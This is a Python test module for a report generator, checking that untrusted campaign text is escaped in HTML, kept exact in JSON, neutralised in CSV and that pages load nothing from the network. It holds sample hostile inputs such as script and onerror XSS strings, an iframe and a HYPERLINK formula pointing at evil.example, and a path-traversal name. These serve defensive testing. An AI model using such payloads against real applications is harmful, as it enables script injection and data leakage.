"""Untrusted text in reports: ids, names, handles and captions stay data; pages stay offline.

A copy of the sample gets a campaign id, a campaign name, a creator handle and a caption made of quotes,
newlines, `<script>`, `{{ }}` and `=HYPERLINK(...)`; its reports must show them escaped, write them
exactly into the JSON, neutralise them in CSV and use a safe file name. Every page written is scanned for
scripts and for assets loaded from the network.
"""

from __future__ import annotations

import csv
import html
import io
import json
import re
import shutil
from pathlib import Path

import nbformat
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from playbook.data.cache import CACHE_ENV
from playbook.reports.html import (
    METRICS_MIMETYPE,
    Html,
    bundle,
    csv_text,
    is_passive_html,
    markdown_html,
    neutralise_formula,
    output_html,
    safe_slug,
    write_files_atomically,
)
from playbook.reports.params import SAMPLE_DIR
from playbook.reports.render import render_reports
from playbook.reports.runner import inject_parameters
from playbook.viz.svg import CHART_MIMETYPE, stable_svg_ids

HOSTILE_ID = 'CP"4\'<script>alert(1)</script>\n{{ 7*7 }}=HYPERLINK("http://evil.example")'
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?q="&A1,"go")<script>alert("name")</script></title>{{ x }}'
HOSTILE_HANDLE = 'mia"><img src=x onerror=alert(1)>'
HOSTILE_CAPTION = '<iframe src="https://evil.example"></iframe>\n{{ caption }} #ad'
TARGET = "CP000004"
ASSET = re.compile(
    r"<\s*(script|link|img|iframe|frame|source|video|audio|embed|object|input)\b[^>]*?"
    r"\b(?:src|href|srcset|poster|data)\s*=\s*[\"']?\s*(?:https?:)?//",
    re.IGNORECASE,
)
SLUG = re.compile(r"[A-Za-z0-9_-]{1,71}")


def external_assets(page: str) -> list[str]:
    """Tags that would load something over the network (plain `<a href>` links are allowed)."""
    return [m.group(0) for m in ASSET.finditer(page)]


def _hostile_copy(directory: Path) -> Path:
    """The sample with the hostile strings in one campaign's id and name, a creator's handle, a caption."""
    shutil.copytree(SAMPLE_DIR, directory)
    frames = {p.stem: pd.read_csv(p, dtype=str, keep_default_na=False) for p in directory.glob("*.csv")}
    for frame in frames.values():
        if "campaign_id" in frame:
            frame.loc[frame["campaign_id"] == TARGET, "campaign_id"] = HOSTILE_ID
    campaigns = frames["campaigns"]
    campaigns.loc[campaigns["campaign_id"] == HOSTILE_ID, "name"] = HOSTILE_NAME
    creator = frames["contracts"].loc[frames["contracts"]["campaign_id"] == HOSTILE_ID, "creator_id"].iloc[0]
    frames["creators"].loc[frames["creators"]["creator_id"] == creator, "handle"] = HOSTILE_HANDLE
    frames["accounts"].loc[frames["accounts"]["creator_id"] == creator, "handle"] = HOSTILE_HANDLE
    posts = frames["posts"]
    posts.loc[posts.index[posts["campaign_id"] == HOSTILE_ID][0], "caption"] = HOSTILE_CAPTION
    for name, frame in frames.items():
        frame.to_csv(directory / f"{name}.csv", index=False)
    return directory


@pytest.fixture(scope="module", autouse=True)
def private_cache(tmp_path_factory):
    """This module's reports cache their data in a temporary directory, not in the user's cache."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv(CACHE_ENV, str(tmp_path_factory.mktemp("cache")))
        yield


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    data = _hostile_copy(tmp_path_factory.mktemp("hostile") / "data")
    out = tmp_path_factory.mktemp("hostile_out")
    results = render_reports([HOSTILE_ID, "CP000001"], data, out, jobs=2)
    return out, results


@pytest.mark.slow
def test_hostile_campaign_renders_with_a_safe_file_name(hostile_run):
    out, results = hostile_run
    assert all(r.ok for r in results), [r.error for r in results]
    hostile = results[0]
    assert hostile.html_path.name == f"{safe_slug(HOSTILE_ID)}.html"
    assert SLUG.fullmatch(hostile.html_path.stem)
    assert hostile.html_path.parent == out and hostile.json_path.parent == out


@pytest.mark.slow
def test_hostile_text_is_escaped_in_the_page(hostile_run):
    _, results = hostile_run
    page = results[0].html_path.read_text(encoding="utf-8")
    assert "<script" not in page.lower() and "<iframe" not in page.lower()
    assert HOSTILE_NAME not in page and html.escape(HOSTILE_NAME) in page  # shown, as text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page  # the id, escaped
    assert "onerror=alert(1)>" not in page


@pytest.mark.slow
def test_json_keeps_the_exact_text(hostile_run):
    _, results = hostile_run
    payload = json.loads(results[0].json_path.read_text(encoding="utf-8"))
    assert payload["campaign_id"] == HOSTILE_ID
    assert payload["figures"]["name"] == HOSTILE_NAME


@pytest.mark.slow
def test_index_escapes_and_csv_neutralises(hostile_run):
    out, results = hostile_run
    index = (out / "index.html").read_text(encoding="utf-8")
    assert "<script" not in index.lower() and html.escape(HOSTILE_NAME) in index
    assert f'<a href="{results[0].html_path.name}">' in index
    rows = list(csv.DictReader(io.StringIO((out / "index.csv").read_text(encoding="utf-8"))))
    assert rows[0]["campaign_id"] == HOSTILE_ID
    assert rows[0]["name"] == "'" + HOSTILE_NAME  # a spreadsheet shows the text, does not run it


@pytest.mark.slow
def test_every_page_written_is_offline(hostile_run):
    out, _ = hostile_run
    pages = sorted(out.glob("*.html"))
    assert len(pages) == 3
    for page in pages:
        text = page.read_text(encoding="utf-8")
        assert external_assets(text) == [], page.name
        assert "<script" not in text.lower() and "@import" not in text and "url(" not in text
        for href in re.findall(r'<a\b[^>]*\bhref="([^"]*)"', text):
            assert href.startswith("https://") or href.startswith("http://") or SLUG.fullmatch(href[:-5])


def test_the_asset_scanner_finds_network_loads():
    assert external_assets('<script src="https://cdn.example/x.js"></script>')
    assert external_assets("<link rel=stylesheet href=//fonts.example/css>")
    assert external_assets("<img alt='' src='http://x.example/a.png'>")
    assert not external_assets('<a href="https://help.modash.io/x">source</a>')
    assert not external_assets('<img src="data:image/svg+xml;base64,AAAA">')


# --------------------------------------------------------------------------- building blocks
@given(st.text(max_size=200))
def test_slugs_are_safe_file_names(text):
    slug = safe_slug(text)
    assert SLUG.fullmatch(slug) and slug.lower() not in {"index", "con", "nul"}
    assert slug == safe_slug(text)


@given(st.text(max_size=40), st.text(max_size=40))
def test_different_ids_get_different_slugs(a, b):
    if a != b:
        assert safe_slug(a) != safe_slug(b)


def test_slug_examples():
    assert safe_slug("CP000004") == "CP000004"  # clean ids are kept as they are
    assert safe_slug("index").startswith("index-") and safe_slug("../etc/passwd").startswith("etc-passwd-")
    assert safe_slug("").startswith("campaign-")


@given(st.text(max_size=100))
def test_injected_text_parameters_stay_data(text):
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_code_cell("campaign_id = None", metadata={"tags": ["parameters"]})]
    injected = inject_parameters(nb, {"campaign_id": text, "days": 7, "basis": None})
    namespace: dict[str, object] = {}
    exec(injected.cells[1].source, namespace)  # what the kernel runs
    assert (namespace["campaign_id"], namespace["days"], namespace["basis"]) == (text, 7, None)


def test_markdown_is_escaped_and_links_are_http_only():
    out = markdown_html(
        "## Reach <script>x</script>\n\nSee [source](https://a.example/p?q=1&r=2) and "
        "[bad](javascript:alert(1)) **bold** `code`\n\n- one\n- two"
    )
    assert "<h2>Reach &lt;script&gt;x&lt;/script&gt;</h2>" in out
    assert '<a href="https://a.example/p?q=1&amp;r=2" rel="noopener noreferrer">source</a>' in out
    assert "javascript:alert(1)" in out and 'href="javascript' not in out
    assert "<strong>bold</strong>" in out and "<code>code</code>" in out
    assert "<ul><li>one</li><li>two</li></ul>" in out


@pytest.mark.parametrize(
    "markup",
    [
        "<script>alert(1)</script>",
        "<div onclick='x()'>a</div>",
        '<img src="x.png">',
        "<iframe></iframe>",
        '<a href="javascript:alert(1)">x</a>',
        '<p style="background:url(https://x.example)">x</p>',
        "<style>@import 'x'</style>",
        "<svg><script>1</script></svg>",
    ],
)
def test_active_html_is_refused(markup):
    assert not is_passive_html(markup)
    shown = output_html(nbformat.v4.new_output("display_data", data={"text/html": markup}))
    assert shown == f"<pre>{html.escape(markup)}</pre>"


def test_section_markup_passes():
    table = pd.DataFrame({"handle": [HOSTILE_HANDLE], "caption": [HOSTILE_CAPTION]})
    for obj in (table, Html('<p><a href="https://help.modash.io/x" rel="noopener noreferrer">s</a></p>')):
        markup = bundle(obj)["text/html"]
        assert is_passive_html(markup)
    assert "&lt;img src=x onerror=alert(1)&gt;" in bundle(table)["text/html"]
    assert bundle("<b>x</b>")["text/html"] == "<p>&lt;b&gt;x&lt;/b&gt;</p>"
    with pytest.raises(TypeError):
        bundle(object())


def test_svg_ids_are_renumbered_in_order_of_appearance():
    # vega's ids count every chart the kernel rendered before; a report must not depend on that history.
    svg = (
        '<svg><linearGradient id="gradient_7"/><clipPath id="clip3"/>'
        '<rect fill="url(#gradient_7)" clip-path="url(#clip3)"/><use href="#clip3"/>'
        "<text>gradient_7</text></svg>"
    )
    assert stable_svg_ids(svg) == (
        '<svg><linearGradient id="svg-id-0"/><clipPath id="svg-id-1"/>'
        '<rect fill="url(#svg-id-0)" clip-path="url(#svg-id-1)"/><use href="#svg-id-1"/>'
        "<text>gradient_7</text></svg>"
    )


@given(st.lists(st.from_regex(r"[a-z]{1,6}_[0-9]{1,3}", fullmatch=True), min_size=1, max_size=6, unique=True))
def test_svg_id_renumbering_keeps_every_reference(ids):
    svg = "".join(f'<g id="{i}"/><rect fill="url(#{i})"/><use href="#{i}"/>' for i in ids)
    once = stable_svg_ids(svg)
    expected = [f"svg-id-{n}" for n in range(len(ids))]
    assert re.findall(r'\bid="([^"]+)"', once) == expected
    assert re.findall(r"url\(#([^)]+)\)", once) == expected
    assert re.findall(r'href="#([^"]+)"', once) == expected
    assert stable_svg_ids(once) == once


def test_outputs_become_offline_html():
    svg = output_html(nbformat.v4.new_output("display_data", data={"image/svg+xml": "<svg/>"}))
    chart_img = '<div class="scroll"><img class="chart" alt="chart" src="data:image/svg+xml;base64,'
    assert svg.startswith(chart_img)
    hidden = output_html(nbformat.v4.new_output("display_data", data={METRICS_MIMETYPE: {"a": 1}}))
    assert hidden == ""
    spec = {"$schema": "https://vega.github.io/schema/vega-lite/v6.4.1.json", "mark": "point"}
    spec["data"] = {"values": [{"x": 1}]}
    chart = nbformat.v4.new_output("display_data", data={CHART_MIMETYPE: spec, "text/plain": "chart"})
    nbformat.validate(nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(outputs=[chart])]))
    assert output_html(chart).startswith(chart_img)
    stream = output_html(nbformat.v4.new_output("stream", name="stdout", text="<b>"))
    assert stream == '<pre class="stdout">&lt;b&gt;</pre>'


def test_formulas_are_neutralised_in_csv():
    # OWASP CSV injection: text starting with = + - @ tab or CR gets a leading quote; numbers do not.
    assert [neutralise_formula(v) for v in ("=1+2", "+1", "-1", "@SUM(A1)", "\tx", "ok", -5, 2.5, None)] == [
        "'=1+2",
        "'+1",
        "'-1",
        "'@SUM(A1)",
        "'\tx",
        "ok",
        -5,
        2.5,
        None,
    ]
    text = csv_text([{"name": '=HYPERLINK("x")', "roas": -0.5}])
    assert text == 'name,roas\r\n"\'=HYPERLINK(""x"")",-0.5\r\n'


def test_atomic_write_leaves_old_files_on_error(tmp_path):
    old = tmp_path / "a.html"
    old.write_text("old report", encoding="utf-8")
    with pytest.raises(OSError):
        write_files_atomically({old: "new report", tmp_path / "missing" / "a.json": "{}"})
    assert old.read_text(encoding="utf-8") == "old report"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.html"]  # no temporary file left
    write_files_atomically({old: "new report"})
    assert old.read_text(encoding="utf-8") == "new report"


def test_a_column_of_sentences_keeps_a_readable_width_and_numbers_stay_right_aligned():
    from playbook.reports.html import PROSE_CHARS, html_table

    sentence = "0 attributed orders in a conversion campaign (rule: re-book needs at least 1)"
    assert len(sentence) > PROSE_CHARS
    markup = html_table(
        ["creator", "orders", "reason"],
        [["@a", "0", html.escape(sentence)], ["@b", "12", "no rule fired"]],
        numeric=[1],
    ).markup
    cells = re.findall(r'<td(?: class="(\w+)")?>', markup)
    assert cells == ["", "num", "prose", "", "num", "prose"]  # the whole reason column, not one cell
    assert '<th class="prose">reason</th>' in markup and "<th>creator</th>" in markup
